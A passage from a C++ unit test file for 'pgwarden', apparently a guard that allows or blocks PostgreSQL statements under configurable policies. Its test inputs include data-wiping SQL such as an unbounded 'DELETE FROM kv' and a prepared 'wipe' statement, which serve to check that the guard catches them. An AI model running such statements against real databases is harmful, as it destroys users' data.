  EXPECT_EQ(evaluate_sql(effect_policy(), "DO $$ BEGIN NULL; END $$").rule, "allowed_kinds");
  p.approve_unbounded_writes = false;
  EXPECT_EQ(evaluate_sql(p, "DO $$ BEGIN DELETE FROM kv; END $$").verdict, Verdict::kAllow);
}

TEST(Evaluator, EffectApprovalsCanBeSwitchedOffAndNeverOverrideADeny) {
  Policy p = effect_policy();
  p.approve_unbounded_writes = false;
  EXPECT_EQ(evaluate_sql(p, "DELETE FROM kv").verdict, Verdict::kAllow);
  Policy ro = read_only_policy();
  ro.approve_unbounded_writes = true;
  EXPECT_EQ(evaluate_sql(ro, "DELETE FROM kv").rule, "read_only");
  EXPECT_EQ(evaluate_sql(effect_policy(), "DELETE FROM secret.t").rule, "allowed_relations");
}

TEST(Evaluator, ExecuteInheritsAnEffectApprovalAcrossCalls) {
  PreparedStatements session;
  const Policy p = effect_policy();
  EXPECT_EQ(evaluate_sql(p, "PREPARE wipe AS DELETE FROM kv", &session).rule, "where_absent");
  EXPECT_EQ(evaluate_sql(p, "EXECUTE wipe", &session).rule, "where_absent");
  EXPECT_EQ(evaluate_sql(p, "DEALLOCATE wipe", &session).verdict, Verdict::kAllow);
  EXPECT_EQ(evaluate_sql(p, "EXECUTE wipe", &session).rule, "unknown_prepared_statement");
}

TEST(Evaluator, KindEntriesAcceptedByTheConfigLoader) {
  for (const char* ok : {"*", "select", "ddl", "copy", "write", "prepared", "set:statement_timeout",
                         "set:lock_*", "truncate", "explain_analyze"}) {
    EXPECT_TRUE(is_kind_entry(ok)) << ok;
  }
  for (const char* bad : {"", "selec", "SELECT", "set:", "set:Role", "**", "set", "all"}) {
    if (std::string_view(bad) == "set") continue;  // a kind name
    EXPECT_FALSE(is_kind_entry(bad)) << bad;
  }
  EXPECT_TRUE(kind_listed({"*"}, StatementKind::kTruncate));
}

}  // namespace
}  // namespace pgwarden::policy
